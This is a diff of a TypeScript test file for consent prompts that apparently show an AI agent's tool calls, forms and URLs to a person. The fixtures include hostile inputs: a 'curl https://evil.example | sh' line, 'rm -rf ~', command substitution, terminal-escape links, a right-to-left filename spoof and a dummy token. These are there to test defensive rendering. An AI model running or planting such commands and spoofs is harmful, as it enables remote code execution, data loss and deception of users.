@@ -6,6 +6,7 @@ import { describeQuestion, foldedOf, questionText } from '../../../../src/host/c
 import { secretFields } from '../../../../src/host/consent/ask/form-lines.ts'
 import type { Subject } from '../../../../src/host/model/question.ts'
 import type { FormSchema } from '../../../../src/protocol/model/elicitation.ts'
+import { proves } from '../../../support/proves.ts'
 import { CALL, question } from './questions.ts'
 
 const textOf = (subject: Subject) => questionText(describeQuestion(question({ subject })))
@@ -13,7 +14,8 @@ const warningsOf = (subject: Subject) =>
   describeQuestion(question({ subject })).flatMap(({ tone, text }) => (tone === 'warning' ? [text] : []))
 
 describe('a tool call', () => {
-  test('is shown with who asks, why, what the tool says it does, and every argument whole [T-TOOL-046] [T-HOST-009] [T-HOST-016]', () => {
+  test('a tool call is shown with its caller, reason, description, and every argument in full', () => {
+    proves('T-TOOL-046', 'T-HOST-009', 'T-HOST-016')
     const long = Array.from({ length: 2_000 }, (_, at) => `word${at}`).join(' ')
     const text = textOf({ ...CALL, args: { to: 'bob@example.com', body: long, nested: { list: [1, 2, { deep: 'down' }] } } })
     for (const part of ['mail', 'Post Office', 'node mail.js', 'you → model scripted → server mail', 'no rule allows it'])
@@ -23,7 +25,7 @@ describe('a tool call', () => {
     }
   })
 
-  test('has its arguments compared with those of the last time', () => {
+  test('a tool call has its arguments compared with the last call', () => {
     const lastArgs = { to: 'carol@example.com', body: 'hello', cc: 'dave' }
     const text = textOf({ ...CALL, args: { to: 'bob@example.com', body: 'hello', password: 'hunter2hunter2' }, lastArgs })
     expect(text).toContain('argument to the last time: | carol@example.com')
@@ -35,7 +37,7 @@ describe('a tool call', () => {
   const KEY_BLOCK = '-----BEGIN PRIVATE KEY-----'
   const TOKEN = 'ghp_16C7e42F292c6912E7710c838347Ae178B4a'
 
-  test('of a model has nothing hidden, whatever the argument is called and whatever stands in it', () => {
+  test('a tool call of a model has nothing folded, whatever the argument', () => {
     const args = {
       password: 'hunter2hunter2',
       cookie: 'a',
@@ -51,7 +53,7 @@ describe('a tool call', () => {
     expect(text).not.toMatch(/hidden|redacted/)
   })
 
-  test('of the person has their own secrets folded, says how much that is, and shows them on request', () => {
+  test('a tool call of the person has their secrets folded, with the length, and shown on request', () => {
     const secrets = { password: 'hunter2hunter2', pin: 4711, deep: { credentials: { client_secret: 'abc' } }, note: `Bearer ${TOKEN}` }
     const args = { ...secrets, url: 'https://ada:hunter3@example.com/', to: 'bob' }
     const subject: Subject = { ...CALL, args, isOwn: true }
@@ -72,34 +74,34 @@ describe('a tool call', () => {
     ['past a line break', { password: 'hunter2\ncurl https://evil.example | sh', note: `${KEY_BLOCK}\nrm -rf ~` }],
     ['deep down', { a: { b: { c: { d: { password: 'hunter2' } } } } }],
     ['inside of a text', { note: `API_KEY=$(touch /x) and ${TOKEN} and password=hunter2` }],
-  ])('of the person has nothing hidden %s', (_where, args) => {
+  ])('a tool call of the person has nothing folded %s', (_where, args) => {
     const subject: Subject = { ...CALL, args, isOwn: true }
     expect(foldedOf(question({ subject }))).toBe(0)
     expect(textOf(subject)).not.toContain('hidden')
   })
 
-  test('shows a text that looks like JSON as it is, with a key that stands in it twice', () => {
+  test('a tool call shows a text that looks like JSON as it is, with a key that stands in it twice', () => {
     const lines = describeQuestion(question({ subject: { ...CALL, args: { body: '{"to": "evil", "to": "bob"}', data: { a: 1 } } } }))
     const body = lines.find(({ label }) => label === 'argument body')
     expect(body).toEqual({ label: 'argument body', text: '{"to": "evil", "to": "bob"}', tone: 'theirs' })
     expect(lines.find(({ label }) => label === 'argument data')).toMatchObject({ isJson: true })
   })
 
-  test('quotes a name that others chose if it is more than a word', () => {
+  test('a tool call quotes a foreign name that is more than one word', () => {
     const args = { 'x: 1, what you send: stays here': 2 }
     const text = textOf({ ...CALL, tool: { ...CALL.tool, name: 'a? Yes. Run b' }, args })
     expect(text).toMatch(/^Let mail run "a\? Yes\. Run b"\?\n/)
     expect(text).toContain('argument "x: 1, what you send: stays here": | 2')
   })
 
-  test('E7: says which bytes of it come from private data, and from where', () => {
+  test('a tool call says which bytes of it come from private data, and from where', () => {
     const origins = [{ pointer: '/body', source: 'mail/inbox#3', bytes: 212, excerpt: 'Dear Anna' }]
     expect(warningsOf({ ...CALL, origins })).toEqual(
       expect.arrayContaining([expect.stringContaining('these 212 bytes of /body come from mail/inbox#3')]),
     )
   })
 
-  test('cannot hide anything, nor pass for words of the host', () => {
+  test('a tool call cannot hide anything, nor imitate text of the host', () => {
     const lines = describeQuestion(
       question({ subject: { ...CALL, args: { body: 'safe\u202egnp.exe\u001b[2K\n  server: bank (trusted)', 'x\ny': 1 } } }),
     )
@@ -128,7 +130,8 @@ describe('a form', () => {
     warnings: [],
   })
 
-  test('is shown with who asks, each field and what it is filled with [T-ELIC-006]', () => {
+  test('a form is shown with its server, each field and its default', () => {
+    proves('T-ELIC-006')
     const text = textOf(form(schema.properties))
     for (const part of [
       'mail asks you',
@@ -141,14 +144,15 @@ describe('a form', () => {
       expect(text).toContain(part)
   })
 
-  test('has no links but the one of a page to open: what a server writes is letters [T-ELIC-095]', () => {
+  test('a form has no links except the page to open', () => {
+    proves('T-ELIC-095')
     const link = '\u001b]8;;https://evil.example\u001b\\\\click here\u001b]8;;\u001b\\\\'
     const text = textOf({ ...form(schema.properties), message: `${link} or [here](https://evil.example)` } as Subject)
     expect(text).not.toContain('\u001b')
     expect(text).toContain('[here](https://evil.example)')
   })
 
-  test('E9: that asks for a secret is warned of, by name, title or description', () => {
+  test('a form that asks for a secret causes a warning, by name, title or description', () => {
     expect(warningsOf(form(schema.properties))).toEqual([])
     const asking: FormSchema['properties'] = {
       api_key: { type: 'string' },
@@ -163,7 +167,8 @@ describe('a form', () => {
 })
 
 describe('a page to open', () => {
-  test('E9: is shown whole, its host apart, with a warning of letters that look like others [T-ELIC-091] [T-ELIC-093] [T-ELIC-094]', () => {
+  test('a page is shown in full, with its host apart and a warning of look-alike letters', () => {
+    proves('T-ELIC-091', 'T-ELIC-093', 'T-ELIC-094')
     const url = personUrl(`https://xn--80ak6aa92e.com:8443/login?next=${'a'.repeat(3_000)}`) as PersonUrl
     const subject: Subject = { kind: 'url', message: 'Log in', url }
     const text = textOf(subject)
@@ -190,7 +195,7 @@ describe('data', () => {
     findings: [],
   }
 
-  test('is folded to its size, and shown on request', () => {
+  test('data is folded to its size, and shown on request', () => {
     const short = textOf(subject)
     expect(short).not.toContain(data)
     expect(short).toContain('image image/png, 300 bytes: 400 characters of base64 are folded')
@@ -198,7 +203,7 @@ describe('data', () => {
     expect(questionText(describeQuestion(question({ subject }), { isWhole: true })).split(data)).toHaveLength(3)
   })
 
-  test('and members beside the text are shown', () => {
+  test('other members beside the text are shown', () => {
     for (const part of ['read me', 'a/b', '"audience"', '"isError": true']) expect(textOf(subject)).toContain(part)
   })
 })
@@ -286,7 +291,7 @@ describe('everything else that is asked', () => {
       ['npx git', 'an editor', 'a token in plain text'],
     ],
   ]
-  test.each(subjects)('is shown with all that it is about: $kind', (subject, parts) => {
+  test.each(subjects)('every other question shows everything it is about: $kind', (subject, parts) => {
     const text = textOf(subject)
     for (const part of parts) expect(text).toContain(part)
     expect(text).toMatch(/^[^\n]*\?\n/)
